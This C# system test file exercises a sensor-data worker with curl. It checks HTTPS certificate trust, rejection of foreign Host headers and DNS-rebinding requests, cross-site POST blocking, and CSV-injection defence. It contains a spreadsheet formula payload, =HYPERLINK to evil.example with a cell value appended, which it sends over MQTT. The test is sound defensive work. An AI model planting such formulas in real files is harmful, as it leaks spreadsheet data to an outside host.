using System.Net;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using WenchangPlan.SystemTests.Servers;

namespace WenchangPlan.SystemTests.Attacks;

/// <summary>The page and the API as curl sees them, on the published worker: https from the configuration, a foreign host, rebinding, formulas in tables. What curl prints is printed.</summary>
public sealed class CurlTests : IAsyncDisposable
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1)";
    private readonly TempDirectory _folder = new();
    private readonly int _http = FreePort.Next();
    private readonly int _https = FreePort.Next();
    private readonly MqttAddress _broker = new(FreePort.Next());
    private ChildProcess? _worker;

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    private string CaFile => _folder["ca.pem"];

    [Fact]
    public async Task HttpsOfTheSettings_ForeignHosts_Rebinding_AndFormulas()
    {
        await StartAsync();

        string secure = await CurlAsync("--cacert", CaFile, $"https://localhost:{_https}/healthz");
        Assert.StartsWith("HTTP/2 200", secure, StringComparison.Ordinal);
        Assert.Contains("curl: (60)", await CurlAsync($"https://localhost:{_https}/healthz"), StringComparison.Ordinal); // nobody vouches for it
        Assert.StartsWith("HTTP/1.1 200", await CurlAsync($"http://127.0.0.1:{_http}/api/v1/pipeline"), StringComparison.Ordinal);

        foreach (string[] foreign in (string[][])
        [
            ["-H", "Host: evil.example", $"http://127.0.0.1:{_http}/api/v1/pipeline"],
            ["-H", "Host: evil.example", $"http://127.0.0.1:{_http}/"],
            ["--resolve", $"rebound.example:{_http}:127.0.0.1", $"http://rebound.example:{_http}/api/v1/quarantine"],
            ["--resolve", $"rebound.example:{_http}:127.0.0.1", "-X", "POST", $"http://rebound.example:{_http}/api/v1/quarantine/replay?reason=not-json"],
        ])
        {
            Assert.Matches("^HTTP/1.1 4(00|03|21) ", await CurlAsync(foreign));
        }

        string[] changes = [$"http://127.0.0.1:{_http}/api/v1/quarantine/replay?reason=not-json", "-X", "POST"];
        Assert.StartsWith("HTTP/1.1 403", await CurlAsync([.. changes, "-H", "Sec-Fetch-Site: cross-site"]), StringComparison.Ordinal);
        Assert.StartsWith("HTTP/1.1 403", await CurlAsync([.. changes, "-H", "Origin: http://evil.example"]), StringComparison.Ordinal);

        (RawMqtt device, _) = await RawMqtt.ComeInAsync(_broker.Port, "device", user: null, password: null, Cancel);
        using (device)
        {
            await device.SendAsync(RawMqtt.Publish("wenchang/air/A1/readings", 1, 0, Encoding.UTF8.GetBytes(Formula)), Cancel);
            Assert.NotNull(await device.ReadAsync(RawMqtt.Puback, Cancel));
        }

        string table = await CurlAsync($"http://127.0.0.1:{_http}/api/v1/quarantine?format=csv&lang=en");
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"", table, StringComparison.Ordinal);
        Assert.Contains("Cross-Origin-Resource-Policy: same-origin", table, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("Cache-Control: no-store", table, StringComparison.OrdinalIgnoreCase);
    }

    public async ValueTask DisposeAsync()
    {
        if (_worker is not null)
        {
            await _worker.DisposeAsync();
        }

        _folder.Dispose();
    }

    private async Task StartAsync()
    {
        WriteCertificate();
        _worker = Published.Start(_folder.Path,
        [
            "run", $"Http:Urls=http://127.0.0.1:{_http};https://127.0.0.1:{_https}", "Http:AllowChanges=true",
            $"Kestrel:Certificates:Default:Path={_folder["server.pem"]}", $"Kestrel:Certificates:Default:KeyPath={_folder["server.key"]}",
            $"Storage:DataDirectory={_folder["data"]}", $"District:File={Path.Combine(AppContext.BaseDirectory, "Data", "district.json")}", "Smtp:PickupDirectory=mails", .. _broker.Embedded,
        ]);
        await Eventually.SeeAsync("the worker", async () => (await ChildProcess.RunAsync("curl", ["-sS", "-f", "--cacert", CaFile, $"http://127.0.0.1:{_http}/readyz", $"https://localhost:{_https}/readyz"], cancel: Cancel)).ExitCode == 0 ? "" : null,
            () => _worker.LastLines, Cancel);
    }

    /// <summary>What curl prints of an answer, or of why there is none.</summary>
    private static async Task<string> CurlAsync(params string[] arguments)
    {
        (_, string output) = await ChildProcess.RunAsync("curl", ["-sS", "-i", "--max-time", "20", .. arguments], cancel: Cancel);
        Figures.Report($"$ curl -i {string.Join(' ', arguments.Select(a => a.Contains(' ', StringComparison.Ordinal) ? $"'{a}'" : a))}\n{output.Trim()}\n");
        return output;
    }

    private void WriteCertificate()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var request = new CertificateRequest("CN=localhost", key, HashAlgorithmName.SHA256);
        request.CertificateExtensions.Add(new X509BasicConstraintsExtension(certificateAuthority: true, hasPathLengthConstraint: false, 0, critical: true));
        var names = new SubjectAlternativeNameBuilder();
        names.AddDnsName("localhost");
        names.AddIpAddress(IPAddress.Loopback);
        request.CertificateExtensions.Add(names.Build());
        DateTimeOffset now = TimeProvider.System.GetUtcNow();
        using X509Certificate2 certificate = request.CreateSelfSigned(now.AddDays(-1), now.AddDays(30));
        File.WriteAllText(_folder["server.pem"], certificate.ExportCertificatePem());
        File.WriteAllText(CaFile, certificate.ExportCertificatePem());
        File.WriteAllText(_folder["server.key"], key.ExportPkcs8PrivateKeyPem());
    }
}
